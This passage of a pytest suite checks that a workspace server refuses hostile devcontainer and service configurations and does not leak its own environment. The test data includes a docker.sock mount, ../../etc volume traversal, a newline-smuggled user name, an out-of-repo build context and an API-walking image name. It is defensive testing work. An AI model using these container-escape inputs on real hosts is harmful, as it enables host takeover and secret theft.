                                        "target": "/var/run/docker.sock"}]})}, "bind mount"),
    ("volume mount of a host path", {".devcontainer/devcontainer.json": json.dumps(
        {"image": "debian", "mounts": ["source=../../etc,target=/x,type=volume"]})}, "not a volume name"),
    ("container user with newline", {".devcontainer/devcontainer.json": json.dumps(
        {"image": "debian", "containerUser": "root\n"})}, "is not a user name"),
    ("build context outside the repository", {".devcontainer/devcontainer.json": json.dumps(
        {"build": {"dockerfile": "Dockerfile", "context": "../../.."}}), ".devcontainer/Dockerfile": DOCKERFILE},
     "points outside the repository"),
    ("devcontainer image that is no reference", {".devcontainer/devcontainer.json": json.dumps(
        {"image": "Debian:Bad Tag"})}, "is not an image reference"),
    ("devcontainer image that walks the engine's API", {".devcontainer/devcontainer.json": json.dumps(
        {"image": "../containers/x"})}, "is not an image reference"),
    ("service image in capitals", {"Dockerfile": DOCKERFILE, ".taskspace/services.yaml":
                                   "services:\n  db:\n    image: Postgres:16\n"}, "must be an image name"),
]


def project_of(stack: Stack, files: dict[str, str | bytes]) -> str:
    """A project whose primary repository holds ``files``; returns a ticket key of it."""
    name = f"env-{secrets.token_hex(3)}"
    stack.git.create_repo(name, files)
    project = f"h{secrets.token_hex(3)}"
    response = stack.api("POST", "/projects", json={"name": project, "repos": [stack.git.url(name)]})
    assert response.status_code == 201, response.text
    response = stack.api("POST", "/tickets", json={"project": project, "title": "Hostile environment"})
    assert response.status_code == 201, response.text
    return response.json()["key"]


@pytest.mark.parametrize(("files", "says"), [c[1:] for c in HOSTILE_ENVIRONMENTS],
                         ids=[c[0] for c in HOSTILE_ENVIRONMENTS])
def test_a_hostile_environment_file_fails_the_launch_and_creates_nothing(
        stack: Stack, docker_client: docker.DockerClient, files: dict[str, str | bytes], says: str) -> None:
    key = project_of(stack, files)
    before = inventory(stack), engine_resources(docker_client, stack.server.installation)

    response = stack.api("POST", "/workspaces", json={"key": key})

    assert_refused(response, 422, says)
    assert (inventory(stack), engine_resources(docker_client, stack.server.installation)) == before


def test_local_env_variables_do_not_leak_the_server_environment(
        stack: Stack, docker_client: docker.DockerClient, base_image: str) -> None:
    """``${localEnv:...}`` is accepted, and becomes its default: nothing of the server's own
    environment (its HOME, PATH, data dir, settings) reaches the workspace."""
    devcontainer = {
        "image": base_image,
        "containerEnv": {"LEAK_HOME": "${localEnv:HOME}", "LEAK_PATH": "x${localEnv:PATH}x",
                         "LEAK_SETTING": "${localEnv:TASKSPACE_DATA_DIR}", "DEFAULTED": "${localEnv:NOPE:fallback}"},
        "remoteEnv": {"REMOTE_HOME": "${localEnv:HOME}"},
    }
    key = project_of(stack, {".devcontainer/devcontainer.json": json.dumps(devcontainer)})
    before = engine_resources(docker_client, stack.server.installation)
    ws = stack.launch_ready(key)
    try:
        env = dict(line.split("=", 1) for line in stack.sh(key, "env").splitlines() if "=" in line)
        owned = engine_resources(docker_client, stack.server.installation)
        new = {name for names in owned.values() for name in names} - {n for ns in before.values() for n in ns}
        assert new and all(ws["id"] in name for name in new), "only this workspace's resources appeared"
    finally:
        purged = stack.request(key, "purge", "purged")

    assert (env["LEAK_HOME"], env["LEAK_PATH"], env["LEAK_SETTING"], env["DEFAULTED"]) == ("", "xx", "", "fallback")
    assert env.get("REMOTE_HOME", "") == ""
    server_values = [os.environ["PATH"], str(stack.server.data_dir), stack.server.token, stack.git_secret]
    leaked = [value for value in server_values if any(value in v for v in env.values())]
    assert leaked == []
    assert purged["state"] == "purged"
    assert engine_resources(docker_client, stack.server.installation) == before
